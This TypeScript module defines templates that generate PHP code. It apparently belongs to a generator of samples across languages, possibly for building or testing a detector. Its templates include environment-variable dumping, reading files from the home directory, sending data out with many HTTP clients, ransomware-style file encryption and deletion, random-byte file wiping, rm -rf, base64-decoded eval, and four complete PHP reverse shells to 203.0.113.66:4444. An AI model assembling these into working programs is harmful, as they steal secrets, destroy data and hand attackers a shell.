import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'")}'`;
const home = (below: string): string => `getenv('HOME') . ${quote(`/${below}`)}`;
const program = (lines: readonly string[]): string => `<?php\n${lines.join("\n")}\n`;

export const php: Dialect = {
  name: "php",
  file: "scripts/notes.php",
  run: "php scripts/notes.php",
  imports: [
    ["GuzzleHttp", "require 'vendor/autoload.php';"],
    ["Symfony", "require 'vendor/autoload.php';"],
    ["new Client", "use GuzzleHttp\\Client;"],
    ["HttpClient::create", "use Symfony\\Component\\HttpClient\\HttpClient;"],
  ],
  program: ({ definitions, body }, imports) => program([...imports, "", ...definitions, "", ...body]),
  quote,
  environment: { one: (name) => `getenv(${name})`, all: "json_encode(getenv())" },
  contentOf: (below) => `file_get_contents(${home(below)})`,
  home,
  clients: {
    curl: {
      post: (url, text) => [
        `$ch = curl_init(${url});`,
        "curl_setopt($ch, CURLOPT_POST, true);",
        `curl_setopt($ch, CURLOPT_POSTFIELDS, ${text});`,
        "curl_exec($ch);",
        "curl_close($ch);",
      ],
      get: (url) =>
        value(
          "$body",
          `$ch = curl_init(${url});`,
          "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);",
          "$body = curl_exec($ch);",
        ),
    },
    "curl-array": {
      post: (url, text) => [
        "$ch = curl_init();",
        "curl_setopt_array($ch, [",
        `  CURLOPT_URL => ${url},`,
        "  CURLOPT_RETURNTRANSFER => true,",
        `  CURLOPT_POSTFIELDS => http_build_query(['data' => ${text}]),`,
        "]);",
        "$answer = curl_exec($ch);",
      ],
    },
    "stream-context": {
      post: (url, text) => [
        `$options = ['http' => ['method' => 'POST', 'header' => 'Content-Type: text/plain', 'content' => ${text}]];`,
        `file_get_contents(${url}, false, stream_context_create($options));`,
      ],
      get: (url) => value("$body", `$body = file_get_contents(${url});`),
    },
    "query-string": {
      post: (url, text) => [`@file_get_contents(${url} . '?d=' . urlencode(${text}));`],
      get: (url) => value("$body", `$body = implode('', file(${url}));`),
    },
    fopen: {
      post: (url, text) => [
        `$context = stream_context_create(['http' => ['method' => 'PUT', 'content' => ${text}]]);`,
        `$stream = fopen(${url}, 'r', false, $context);`,
        "fclose($stream);",
      ],
      get: (url) => value("$body", `$stream = fopen(${url}, 'r');`, "$body = stream_get_contents($stream);"),
    },
    guzzle: {
      post: (url, text) => ["$client = new Client();", `$client->post(${url}, ['body' => ${text}]);`],
      get: (url) =>
        value("$body", "$client = new \\GuzzleHttp\\Client();", `$body = (string) $client->get(${url})->getBody();`),
    },
    "guzzle-request": {
      post: (url, text) => [
        "$client = new \\GuzzleHttp\\Client(['timeout' => 5]);",
        `$client->request('POST', ${url}, ['json' => ['data' => ${text}]]);`,
      ],
    },
    symfony: {
      post: (url, text) => [
        "$http = HttpClient::create();",
        `$http->request('POST', ${url}, ['body' => ['d' => ${text}]]);`,
      ],
      get: (url) => value("$body", `$body = HttpClient::create()->request('GET', ${url})->getContent();`),
    },
    fsockopen: {
      post: (url, text) => [
        `$parts = parse_url(${url});`,
        "$socket = fsockopen('ssl://' . $parts['host'], 443);",
        `$data = ${text};`,
        "fwrite($socket, \"POST {$parts['path']} HTTP/1.1\\r\\nHost: {$parts['host']}\\r\\nContent-Length: \" . strlen($data) . \"\\r\\n\\r\\n\" . $data);",
        "fclose($socket);",
      ],
    },
    "curl-exec": {
      post: (url, text) => [`exec('curl -s -d ' . escapeshellarg(${text}) . ' ' . ${url});`],
      get: (url) => value("$body", `$body = shell_exec('curl -s ' . ${url});`),
    },
  },
  shells: {
    exec: { run: (c) => [`exec(${c});`], capture: (c) => value('implode("\\n", $seen)', `exec(${c}, $seen);`) },
    shell_exec: { run: (c) => [`shell_exec(${c});`], capture: (c) => value("$seen", `$seen = shell_exec(${c});`) },
    system: { run: (command) => [`system(${command});`] },
    passthru: { run: (command) => [`passthru(${command});`] },
    backtick: {
      run: (c) => [`$cmd = ${c};`, "`$cmd`;"],
      capture: (c) => value("$seen", `$cmd = ${c};`, "$seen = `$cmd`;"),
    },
    proc_open: {
      run: (command) => [`$process = proc_open(${command}, [1 => ['pipe', 'w']], $pipes);`, "proc_close($process);"],
    },
    popen: {
      run: (command) => [`pclose(popen(${command}, 'r'));`],
      capture: (command) => value("$seen", `$pipe = popen(${command}, 'r');`, "$seen = stream_get_contents($pipe);"),
    },
  },
  variable: (name) => `$${name}`,
  set: (name, expression) => `$${name} = ${expression};`,
  define: (name, parameters, body) =>
    wrap(`function ${name}(${parameters.map((each) => `$${each}`).join(", ")}) {`, body.map(String), "}"),
  getter: (name, expression) => ({
    definitions: wrap(`function ${name}(): string {`, [`return ${expression};`], "}"),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")});`,
  record: (url, text) => ({
    code: {
      definitions: [
        "class Job {",
        "  public string $target;",
        "  public string $text;",
        "  public function __construct(string $target, string $text) {",
        "    $this->target = $target;",
        "    $this->text = $text;",
        "  }",
        "}",
      ],
      body: [`$job = new Job(${url}, ${text});`],
    },
    url: "$job->target",
    text: "$job->text",
  }),
  loop: (items, body) => wrap(`foreach ([${items.join(", ")}] as $item) {`, body("$item"), "}"),
  forever: (body) => wrap("while (true) {", [...body, "sleep(60);"], "}"),
  save: (path, text) => [`file_put_contents(${path}, ${text});`],
  append: (path, text) => [`file_put_contents(${path}, ${text} . PHP_EOL, FILE_APPEND);`],
  print: (text) => `echo ${text};`,
  walk: (folder, body) =>
    wrap(
      `foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator(${folder}, FilesystemIterator::SKIP_DOTS)) as $entry) {`,
      ["$path = $entry->getPathname();", ...body("$path")],
      "}",
    ),
  remove: (file) => [`unlink(${file});`],
  overwrite: (file) => [`file_put_contents(${file}, random_bytes(filesize(${file})));`],
  encrypt: (file) => [
    `$locked = openssl_encrypt(file_get_contents(${file}), 'aes-256-cbc', KEY, 0, IV);`,
    `file_put_contents(${file} . '.locked', $locked);`,
    `unlink(${file});`,
  ],
  removeTree: (folder) => [`exec('rm -rf ' . escapeshellarg(${folder}));`],
  decode: (text) => `base64_decode(${text})`,
  evaluate: (code) => `eval(${code});`,
  oneLiner: (command) => `system(${quote(command)});`,
  shellsBehindSockets: {
    "exec-descriptor": program(["$sock = fsockopen('203.0.113.66', 4444);", "exec('/bin/sh -i <&3 >&3 2>&3');"]),
    proc_open: program([
      "$sock = fsockopen('203.0.113.66', 4444);",
      "$proc = proc_open('/bin/sh -i', [0 => $sock, 1 => $sock, 2 => $sock], $pipes);",
    ]),
    "shell_exec-loop": program([
      "$s = stream_socket_client('tcp://203.0.113.66:4444');",
      "while (($cmd = fgets($s)) !== false) {",
      "  fwrite($s, shell_exec($cmd));",
      "}",
    ]),
    "socket-extension": program([
      "$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);",
      "socket_connect($s, '203.0.113.66', 4444);",
      "while ($cmd = socket_read($s, 2048)) {",
      "  $out = `$cmd`;",
      "  socket_write($s, $out, strlen($out));",
      "}",
    ]),
  },
  sockets: {
    print: program([
      "$s = fsockopen('127.0.0.1', 6379);",
      'fwrite($s, "PING\\r\\n");',
      "echo fgets($s);",
      "fclose($s);",
    ]),
    loop: program([
      "$s = stream_socket_client('tcp://localhost:11211');",
      'fwrite($s, "stats\\r\\n");',
      "while (($line = fgets($s)) !== false) {",
      "  echo $line;",
      "}",
      "echo shell_exec('git log --oneline -5');",
    ]),
  },
};
